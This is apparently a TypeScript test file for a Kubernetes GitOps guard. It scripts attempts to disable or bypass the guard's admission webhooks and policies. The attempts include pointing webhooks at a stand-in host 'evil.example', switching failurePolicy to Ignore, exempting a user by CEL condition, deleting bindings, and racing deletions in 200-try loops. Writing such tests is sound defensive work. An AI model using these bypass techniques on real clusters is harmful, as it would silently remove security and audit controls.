import type { Row } from '../row.ts'
import { bindingPath, WEBHOOK, type Stage } from '../stage.ts'

const ADMISSION = '/apis/admissionregistration.k8s.io/v1'
const JSON_PATCH = { contentType: 'application/json-patch+json' }
const MERGE = { contentType: 'application/merge-patch+json' }
const ALL = [
  { apiGroups: ['*'], apiVersions: ['*'], operations: ['CREATE', 'UPDATE'], resources: ['*'], scope: '*' },
]
const clientConfig = { url: 'https://evil.example/mutate' }

const edit = (row: number, title: string, operations: object[]): Row => ({
  row,
  title: `alice changes the guard's webhook: ${title}`,
  expect: 'policy',
  run: (stage) => stage.refusedRaw('alice', ['PATCH', WEBHOOK, operations], JSON_PATCH),
})

/** The binding first, so that no policy refuses; then the change, again and again until it gets through. */
const editPast = (row: number, title: string, operations: object[]): Row => ({
  row,
  title: `admin removes the policy, then: ${title}`,
  expect: 'watcher',
  run: async (stage) => {
    const wanted = await webhooks(stage)
    for (let tries = 0; tries < 200; tries++) {
      await stage.raw('admin', 'DELETE', bindingPath('gitops-guard'))
      const { status } = await stage.raw('admin', 'PATCH', WEBHOOK, operations, JSON_PATCH)
      if (status === 200) return stage.putBack(async () => (await webhooks(stage)) === wanted)
    }
    throw new Error('not one of 200 tries got past the policy')
  },
})

async function webhooks(stage: Stage): Promise<string> {
  const { body } = await stage.raw('admin', 'GET', WEBHOOK)
  return JSON.stringify(body?.webhooks)
}

const remove = (path: string, what: string): Row => ({
  row: 27,
  title: `admin deletes ${what}`,
  expect: 'watcher',
  run: async (stage) => {
    // Rows before this one take it away, again and again.
    let before: string | undefined
    await stage.eventually('it is there', async () => {
      before = (await stage.raw('admin', 'GET', path)).body?.metadata?.uid
      return before !== undefined
    })
    const { status, text } = await stage.raw('admin', 'DELETE', path)
    if (status !== 200) throw new Error(text)
    return stage.putBack(async () => {
      const { status: found, body } = await stage.raw('admin', 'GET', path)
      return found === 200 && body.metadata.uid !== before
    })
  },
})

const selector = (values: string[]) => [
  { op: 'replace', path: '/webhooks/0/namespaceSelector/matchExpressions/0/values', value: values },
]
const condition = [
  {
    op: 'add',
    path: '/webhooks/0/matchConditions/-',
    value: { name: 'not-alice', expression: "request.userInfo.username != 'alice'" },
  },
]

/** What registers the guard, and what others register beside it. */
export const webhookRows: readonly Row[] = [
  {
    row: 25,
    title: 'alice registers a webhook that mutates what agents apply',
    expect: 'policy',
    run: (stage) =>
      stage.refusedRaw('alice', [
        'POST',
        `${ADMISSION}/mutatingwebhookconfigurations`,
        {
          metadata: { name: 'hers' },
          webhooks: [
            {
              name: 'hers.evil.example',
              clientConfig,
              rules: ALL,
              sideEffects: 'None',
              admissionReviewVersions: ['v1'],
              failurePolicy: 'Ignore',
            },
          ],
        },
      ]),
  },
  {
    row: 25,
    title: 'alice makes a MutatingAdmissionPolicy: no webhook or policy sees it, people are told',
    expect: 'reported',
    run: async (stage) => {
      const policies = `${ADMISSION}/mutatingadmissionpolicies`
      const { status, text } = await stage.raw('alice', 'POST', policies, {
        metadata: { name: 'hers' },
        spec: {
          failurePolicy: 'Ignore',
          reinvocationPolicy: 'Never',
          matchConstraints: {
            resourceRules: [
              { apiGroups: ['apps'], apiVersions: ['*'], operations: ['*'], resources: ['deployments'] },
            ],
          },
          mutations: [
            {
              patchType: 'ApplyConfiguration',
              applyConfiguration: { expression: "Object{metadata: Object.metadata{labels: {'a': 'b'}}}" },
            },
          ],
        },
      })
      if (status !== 201) throw new Error(text)
      await stage.told('audited', (each) => each.rule === 'mutator' && each.object.name === 'hers')
      await stage.raw('admin', 'DELETE', `${policies}/hers`)
      return { stopped: 'reported', note: 'RBAC and static manifests may keep it out' }
    },
  },
  {
    row: 25,
    title: 'past the policy, its mutation of what the agent applies is put back',
    expect: 'watcher',
    // API servers compile policies at intervals: what one did to manifests is asked again when it has settled (3 s).
    withinMs: 5000,
    run: async (stage) => mutatingPolicy(stage),
  },
  {
    row: 26,
    title: "alice deletes the guard's webhook",
    expect: 'policy',
    run: (stage) => stage.refused('alice', ['delete', 'validatingwebhookconfiguration', 'gitops-guard']),
  },
  {
    row: 26,
    title: 'admin (system:masters) deletes all webhooks as a collection',
    expect: 'policy',
    run: async (stage) => {
      const outcome = await stage.refusedRaw('admin', [
        'DELETE',
        `${ADMISSION}/validatingwebhookconfigurations?labelSelector=app.kubernetes.io/name=gitops-guard`,
      ])
      return outcome
    },
  },
  edit(26, 'failurePolicy', [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }]),
  edit(26, 'caBundle', [{ op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: 'Cg==' }]),
  edit(26, 'URL', [
    { op: 'replace', path: '/webhooks/0/clientConfig/url', value: 'https://evil.example/validate' },
  ]),
  edit(26, 'rules', [{ op: 'replace', path: '/webhooks/0/rules', value: [] }]),
  edit(26, 'labels', [{ op: 'add', path: '/metadata/labels/mine', value: 'yes' }]),
  edit(26, 'no webhooks at all', [{ op: 'remove', path: '/webhooks' }]),
  {
    row: 26,
    title: 'alice applies an empty one with --force-conflicts as the guard’s field manager',
    expect: 'policy',
    run: (stage) =>
      stage.refused(
        'alice',
        ['apply', '--server-side', '--force-conflicts', '--field-manager=gitops-guard', '-f', '-'],
        {
          stdin: JSON.stringify({
            apiVersion: 'admissionregistration.k8s.io/v1',
            kind: 'ValidatingWebhookConfiguration',
            metadata: { name: 'gitops-guard' },
            webhooks: [],
          }),
        },
      ),
  },
  {
    row: 26,
    title: 'admin removes the policy, then the webhook',
    expect: 'watcher',
    run: async (stage) => {
      const wanted = await webhooks(stage)
      for (let tries = 0; tries < 200; tries++) {
        await stage.raw('admin', 'DELETE', bindingPath('gitops-guard'))
        const { status } = await stage.raw('admin', 'DELETE', WEBHOOK)
        if (status === 200) return stage.putBack(async () => (await webhooks(stage)) === wanted)
      }
      throw new Error('not one of 200 tries got past the policy')
    },
  },
  editPast(26, 'failurePolicy Ignore', [
    { op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' },
  ]),
  editPast(26, 'no webhooks at all', [{ op: 'remove', path: '/webhooks' }]),
  remove(bindingPath('gitops-guard'), 'the binding of the guarding policy'),
  remove(bindingPath('gitops-guard-namespace'), "the binding of the policy for the guard's namespace"),
  remove(`${ADMISSION}/validatingadmissionpolicies/gitops-guard`, 'the guarding policy'),
  {
    row: 27,
    title: 'admin turns the binding into a mere audit',
    expect: 'watcher',
    run: async (stage) => {
      const path = bindingPath('gitops-guard')
      const body = { spec: { validationActions: ['Audit'] } }
      const { status, text } = await stage.raw('admin', 'PATCH', path, body, MERGE)
      if (status !== 200) throw new Error(text)
      return stage.putBack(
        async () => (await stage.raw('admin', 'GET', path)).body?.spec?.validationActions?.[0] === 'Deny',
      )
    },
  },
  {
    row: 27,
    title: 'admin narrows the binding to another namespace by matchResources',
    expect: 'watcher',
    run: async (stage) => {
      const path = bindingPath('gitops-guard-namespace')
      const matchResources = { namespaceSelector: { matchLabels: { no: 'where' } } }
      const { status, text } = await stage.raw('admin', 'PATCH', path, { spec: { matchResources } }, MERGE)
      if (status !== 200) throw new Error(text)
      return stage.putBack(
        async () =>
          (await stage.raw('admin', 'GET', path)).body?.spec?.matchResources?.namespaceSelector
            ?.matchLabels === undefined,
      )
    },
  },
  {
    row: 27,
    title: 'admin gives the policy a condition that is never true',
    expect: 'watcher',
    run: async (stage) => {
      const path = `${ADMISSION}/validatingadmissionpolicies/gitops-guard`
      const was = (await stage.raw('admin', 'GET', path)).body.spec.matchConditions.length
      const add = [
        { op: 'add', path: '/spec/matchConditions/-', value: { name: 'never', expression: 'false' } },
      ]
      const { status, text } = await stage.raw('admin', 'PATCH', path, add, JSON_PATCH)
      if (status !== 200) throw new Error(text)
      return stage.putBack(
        async () => (await stage.raw('admin', 'GET', path)).body?.spec?.matchConditions?.length === was,
      )
    },
  },
  {
    row: 27,
    title: 'admin has the policy take parameters that are not there',
    expect: 'watcher',
    run: async (stage) => {
      const path = `${ADMISSION}/validatingadmissionpolicies/gitops-guard`
      const body = { spec: { paramKind: { apiVersion: 'v1', kind: 'ConfigMap' } } }
      const { status, text } = await stage.raw('admin', 'PATCH', path, body, MERGE)
      if (status !== 200) throw new Error(text)
      return stage.putBack(async () => {
        return (await stage.raw('admin', 'GET', path)).body?.spec?.paramKind === undefined
      })
    },
  },
  edit(44, 'the guarded namespace out of its selector', selector(['gitops-guard'])),
  edit(44, 'a condition that lets alice past', condition),
  editPast(44, 'the guarded namespace out of the selector', selector(['gitops-guard'])),
  editPast(44, 'a condition that lets alice past', condition),
  {
    row: 0,
    title: 'alice deletes a webhook configuration that Git declares',
    expect: 'policy',
    run: (stage) => stage.refused('alice', ['delete', 'validatingwebhookconfiguration', 'shop-images']),
  },
]

async function mutatingPolicy(stage: Stage) {
  const name = 'past'
  const policy = {
    metadata: { name },
    spec: {
      failurePolicy: 'Ignore',
      reinvocationPolicy: 'Never',
      matchConstraints: {
        resourceRules: [
          { apiGroups: [''], apiVersions: ['*'], operations: ['*'], resources: ['configmaps'] },
        ],
        namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'shop' } },
      },
      mutations: [
        {
          patchType: 'ApplyConfiguration',
          applyConfiguration: { expression: "Object{metadata: Object.metadata{labels: {'hers': 'yes'}}}" },
        },
      ],
    },
  }
  const policies = `${ADMISSION}/mutatingadmissionpolicies`
  const binding = { metadata: { name }, spec: { policyName: name } }
  // A policy of the guard that is gone for a moment is in force until the API server has noticed; so, as an agent might.
  const agent = 'system:serviceaccount:ci:deployer'
  await stage.raw(agent, 'POST', policies, policy)
  await stage.raw(agent, 'POST', `${ADMISSION}/mutatingadmissionpolicybindings`, binding)
  try {
    const path = '/api/v1/namespaces/shop/configmaps/web'
    const isMutated = async () =>
      (await stage.raw('admin', 'GET', path)).body?.metadata?.labels?.hers === 'yes'
    await stage.eventually('the mutation is in force', async () => {
      const answer = await stage.raw(
        agent,
        'PATCH',
        `${path}?dryRun=All`,
        { metadata: { labels: { x: 'y' } } },
        MERGE,
      )
      return answer.body?.metadata?.labels?.hers === 'yes'
    })
    await stage.agentApplies()
    if (await isMutated())
      await stage.raw(agent, 'PATCH', path, { metadata: { labels: { touch: 'it' } } }, MERGE)
    await stage.raw(agent, 'DELETE', `${ADMISSION}/mutatingadmissionpolicybindings/${name}`)
    await stage.raw(agent, 'DELETE', `${policies}/${name}`)
    return await stage.putBack(async () => !(await isMutated()))
  } finally {
    await stage.raw(agent, 'DELETE', `${ADMISSION}/mutatingadmissionpolicybindings/${name}`)
    await stage.raw(agent, 'DELETE', `${policies}/${name}`)
  }
}
